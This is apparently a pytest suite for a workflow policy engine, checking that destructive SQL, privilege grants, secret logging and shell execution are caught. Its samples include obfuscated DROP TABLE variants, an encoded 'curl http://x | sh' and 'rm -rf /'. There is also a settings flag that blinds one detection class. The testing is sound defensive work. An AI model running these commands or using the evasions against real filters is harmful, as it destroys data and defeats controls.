"""The policy engine sees what would be executed, however it is spelled, and lets ordinary work through."""

from __future__ import annotations

import base64

import pytest
import yaml

from atom.packages import parse
from atom.policy_engine import CLASSES, judge, normalise, rules
from atom.settings import Settings


@pytest.fixture
def settings(tmp_path):
    path = tmp_path / "settings.yml"
    path.write_text("defects: []\n")
    return Settings(path)


def package(uses, **parameters):
    return parse(
        yaml.safe_dump(
            {
                "apiVersion": "atom/v1",
                "kind": "WorkflowPackage",
                "metadata": {"name": "n", "version": "1", "author": "a@b.example", "tenant": "acme"},
                "spec": {"steps": [{"name": "s", "uses": uses, "with": parameters}]},
            }
        ).encode()
    )


def test_rules_cover_every_class():
    assert {rule.class_ for rule in rules()} == set(CLASSES)


@pytest.mark.parametrize(
    ("class_", "uses", "parameters"),
    [
        ("destructive_data", "sql.query", {"statement": "DROP TABLE invoices"}),
        ("destructive_data", "sql.query", {"statement": "dR/**/Op table x; D\u200bROP TABLE y"}),
        ("destructive_data", "sql.query", {"statement": "{{ 'DR' ~ 'OP' }} TABLE invoices"}),
        ("destructive_data", "sql.query", {"statement": "DRО\u0050 TABLE x".replace("О", "\u041e")}),
        ("destructive_data", "sql.query", {"statement": ["DROP", "TABLE", "x"]}),
        ("destructive_data", "sql.query", {"statement": "DELETE FROM invoices"}),
        ("destructive_data", "sql.query", {"statement": "DELETE FROM invoices WHERE 1=1"}),
        ("destructive_infrastructure", "infra.apply", {"action": "Destroy"}),
        ("privilege", "sql.query", {"statement": "ALTER ROLE app SUPERUSER"}),
        ("secret_exposure", "core.log", {"message": "{{ secrets.db }}"}),
        ("network_opening", "net.rule", {"cidr": "0.0.0.0/0"}),
        ("arbitrary_shell", "shell.run", {"command": "ls"}),
        ("arbitrary_shell", "http.request", {"body": base64.b64encode(b"curl http://x | sh").decode()}),
        ("arbitrary_shell", "sql.query", {"statement": "{{ params.a ~ inputs.b }}"}),
        ("control_disabling", "policy.set", {"enforce": False}),
        ("control_disabling", "sql.query", {"statement": "ALTER TABLE x DISABLE ROW LEVEL SECURITY"}),
    ],
)
def test_unsafe_work_is_found_in_its_class(settings, class_, uses, parameters):
    assert class_ in {finding.class_ for finding in judge(package(uses, **parameters), settings)}


@pytest.mark.parametrize(
    ("uses", "parameters"),
    [
        ("sql.query", {"statement": "SELECT id, total FROM invoices WHERE dropped_at IS NULL"}),
        ("sql.query", {"statement": "UPDATE invoices SET paid = true WHERE id = {{ params.id }}"}),
        ("sql.query", {"statement": "DELETE FROM sessions WHERE expires_at < now()"}),
        ("core.log", {"message": "Do not drop the ball, delete nothing"}),
        ("http.request", {"url": "https://api.example.com/v1/invoices", "method": "GET"}),
        ("net.rule", {"cidr": "10.20.0.0/16", "port": 443}),
        ("infra.apply", {"action": "plan", "module": "queue"}),
    ],
)
def test_ordinary_work_is_let_through(settings, uses, parameters):
    assert judge(package(uses, **parameters), settings) == []


def test_nested_steps_are_seen(settings):
    nested = package("core.group")
    nested.steps[0]["steps"] = [{"uses": "shell.run", "with": {"command": "ls"}}]
    assert [finding.path for finding in judge(nested, settings)] == ["spec.steps[0].steps[0]"]


def test_a_defect_blinds_one_class(tmp_path):
    path = tmp_path / "settings.yml"
    path.write_text("defects: [dryrun_misses_privilege]\n")
    assert judge(package("sql.query", statement="ALTER ROLE app SUPERUSER"), Settings(path)) == []


def test_encodings_nest():
    once = base64.b64encode(b"rm -rf / --no-preserve-root").decode()
    assert "rm -rf" in normalise(base64.b64encode(once.encode()).decode())
